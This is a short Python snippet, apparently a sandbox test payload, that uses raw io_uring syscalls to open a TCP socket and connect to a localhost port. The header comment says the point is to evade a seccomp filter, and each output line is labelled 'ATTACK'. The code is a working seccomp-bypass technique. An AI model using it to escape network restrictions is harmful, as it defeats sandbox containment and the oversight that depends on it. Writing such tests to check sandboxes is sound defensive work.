# where: conv_forward
# socket() and connect() through io_uring: the seccomp filter only sees io_uring_enter.
import ctypes as _ct, errno as _en, mmap as _mm, socket as _sk, struct as _st
_libc = _ct.CDLL(None, use_errno=True)
_libc.syscall.restype = _ct.c_long

def _uring_op(op, fd, off=0, addr=0, length=0):
    params = _ct.create_string_buffer(120)
    ring = _libc.syscall(425, _ct.c_uint(4), params)          # io_uring_setup
    if ring < 0:
        return 'setup ' + _en.errorcode.get(_ct.get_errno(), '?')
    sq_n, cq_n = _st.unpack_from('<2I', params.raw, 0)
    sq = _st.unpack_from('<7I', params.raw, 40)      # head tail mask entries flags dropped array
    cq = _st.unpack_from('<6I', params.raw, 80)      # head tail mask entries overflow cqes
    rw = _mm.PROT_READ | _mm.PROT_WRITE
    sqm = _mm.mmap(ring, sq[6] + sq_n * 4, _mm.MAP_SHARED, rw, offset=0)
    cqm = _mm.mmap(ring, cq[5] + cq_n * 16, _mm.MAP_SHARED, rw, offset=0x8000000)
    sqes = _mm.mmap(ring, sq_n * 64, _mm.MAP_SHARED, rw, offset=0x10000000)
    sqe = bytearray(64)
    _st.pack_into('<BBHiQQII', sqe, 0, op, 0, 0, fd, off, addr, length, 0)
    sqes[0:64] = bytes(sqe)
    tail, mask = _st.unpack_from('<2I', sqm, sq[1])
    _st.pack_into('<I', sqm, sq[6] + 4 * (tail & mask), 0)
    _st.pack_into('<I', sqm, sq[1], tail + 1)
    if _libc.syscall(426, _ct.c_uint(ring), _ct.c_uint(1), _ct.c_uint(1), _ct.c_uint(1), None, _ct.c_size_t(0)) < 0:
        return 'enter ' + _en.errorcode.get(_ct.get_errno(), '?')
    head = _st.unpack_from('<I', cqm, cq[0])[0]
    cmask = _st.unpack_from('<I', cqm, cq[2])[0]
    res = _st.unpack_from('<i', cqm, cq[5] + 16 * (head & cmask) + 8)[0]
    return res if res >= 0 else _en.errorcode.get(-res, str(res))

try:
    _fd = _uring_op(45, 2, off=1)                    # IORING_OP_SOCKET(AF_INET, SOCK_STREAM, 0)
    print('ATTACK: io_uring socket -> %s' % (_fd,))
    if isinstance(_fd, int):
        _sa = _ct.create_string_buffer(_st.pack('<H', 2) + _st.pack('!H4s8x', {port}, _sk.inet_aton('127.0.0.1')))
        print('ATTACK: io_uring connect -> %s' % (_uring_op(16, _fd, off=16, addr=_ct.addressof(_sa)),))
except Exception as _e:
    print('ATTACK: io_uring failed %s: %s' % (type(_e).__name__, _e))
